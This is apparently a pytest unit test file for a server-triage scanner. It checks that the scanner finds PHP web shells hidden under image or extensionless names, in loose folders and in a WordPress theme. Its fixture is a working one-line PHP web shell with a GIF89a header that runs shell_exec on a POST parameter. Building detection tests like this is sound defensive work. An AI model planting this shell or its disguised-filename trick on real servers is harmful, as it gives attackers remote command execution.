"""Every file PHP could run is judged by its content, whatever its name and wherever it
is: a shell named favicon.ico or with no extension, in a site's theme or in a bare
folder of loose files."""

from __future__ import annotations

from pathlib import Path

import pytest

from vpsrescue.triage.run import triage_tree

pytestmark = pytest.mark.unit

SHELL = b"GIF89a\n<?php if (isset($_POST['c'])) { echo shell_exec($_POST['c']); } ?>\n"


def flagged(report: dict[str, object]) -> dict[str, str]:
    return {f["path"]: f["extra"].get("rule", "") for f in report["findings"]  # type: ignore
            if f["severity"] in ("critical", "high", "medium")}


def test_loose_files_with_no_php_name_are_read_and_judged(tmp_path: Path) -> None:
    loose = tmp_path / "loose"
    loose.mkdir()
    (loose / "favicon.ico").write_bytes(SHELL)
    (loose / "cache").write_bytes(SHELL.replace(b"GIF89a\n", b""))
    (loose / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)))
    report = triage_tree(loose).to_json()
    assert report["coverage"]["web_root"] == "/" and report["coverage"]["php_files"] == 2
    assert flagged(report) == {"/favicon.ico": "php.request-exec",
                               "/cache": "php.request-exec"}


def test_a_shell_named_as_an_image_in_a_theme_is_found(tmp_path: Path) -> None:
    site = tmp_path / "old/var/www/site"
    (site / "wp-includes").mkdir(parents=True)
    (site / "wp-includes/version.php").write_text("<?php\n$wp_version = '6.1.9';\n")
    (site / "wp-settings.php").write_text("<?php\n")
    (site / "wp-config.php").write_text("<?php\ndefine('DB_NAME', 'wp');\n"
                                        "require_once ABSPATH . 'wp-settings.php';\n")
    theme = site / "wp-content/themes/t"
    theme.mkdir(parents=True)
    (theme / "style.css").write_text("/* Theme Name: t */\n")
    (theme / "screenshot.jpg").write_bytes(SHELL)
    (theme / "functions.php").write_text("<?php\nadd_action('init', 'x');\n")
    found = flagged(triage_tree(tmp_path / "old").to_json())
    assert found == {"/var/www/site/wp-content/themes/t/screenshot.jpg": "php.request-exec"}
